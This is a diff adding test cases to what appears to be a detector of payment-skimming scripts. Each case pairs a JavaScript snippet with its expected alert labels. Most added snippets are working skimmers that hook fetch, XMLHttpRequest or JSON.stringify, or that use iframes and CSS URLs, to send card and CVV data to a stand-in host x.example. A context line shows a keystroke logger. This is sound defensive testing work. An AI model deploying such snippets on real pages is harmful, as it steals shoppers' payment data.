@@ -39,6 +39,34 @@ const cases: Record<string, [string, string[]]> = {
     `var s=new WebSocket('wss://x.example/');document.onkeypress=function(e){s.send(e.key)}`,
     ['high keystrokes-to-host'],
   ],
+  "a copy of the page's payment requests": [
+    `var f=window.fetch;window.fetch=function(u,o){if(o&&/cvv/.test(o.body))navigator.sendBeacon('https://x.example/v1',o.body);return f.apply(this,arguments)}`,
+    ['critical page-requests-copied'],
+  ],
+  'a copy by the number of an argument': [
+    `var f=fetch;window.fetch=function(){var a=arguments;new Image().src='https://x.example/?'+btoa(arguments[1].body);return f.apply(this,a)}`,
+    ['critical page-requests-copied'],
+  ],
+  'a copy of what XMLHttpRequest sends': [
+    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){if(/card/.test(b))fetch('https://x.example/',{method:'POST',body:b});return s.call(this,b)}`,
+    ['critical page-requests-copied'],
+  ],
+  'a copy of what JSON.stringify packs': [
+    `(function(s){JSON.stringify=function(v){var t=s.apply(JSON,arguments);if(v&&v.card)new EventSource('https://x.example/?'+btoa(t));return t}})(JSON.stringify)`,
+    ['critical page-requests-copied'],
+  ],
+  'an agent that measures requests': [
+    `var f=window.fetch;window.fetch=function(u,o){var t=Date.now();return f.apply(this,arguments).then(function(r){navigator.sendBeacon('https://apm.example/v1',JSON.stringify({url:String(u),method:o&&o.method,ms:Date.now()-t,status:r.status,size:o&&o.body?o.body.length:0}));return r})};var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.t=Date.now();return s.apply(this,arguments)}`,
+    [],
+  ],
+  'card data to a frame of another host': [
+    `var f=document.createElement('iframe');f.src='https://x.example/w.html';document.body.appendChild(f);document.addEventListener('change',function(){f.contentWindow.postMessage(document.querySelector('[autocomplete^="cc-"]').value,'*')})`,
+    ['medium card-field-to-host'],
+  ],
+  'card data in a style sheet': [
+    `var s=document.head.appendChild(document.createElement('style'));s.textContent='p{background:url(https://x.example/'+${card}+'.png)}'`,
+    ['critical card-data-in-image-url', 'medium card-field-to-host'],
+  ],
   'a newsletter form': [
     `fetch('https://news.example/',{method:'POST',body:document.getElementById('email').value}).then(function(r){})`,
     ['info personal-field-to-host'],
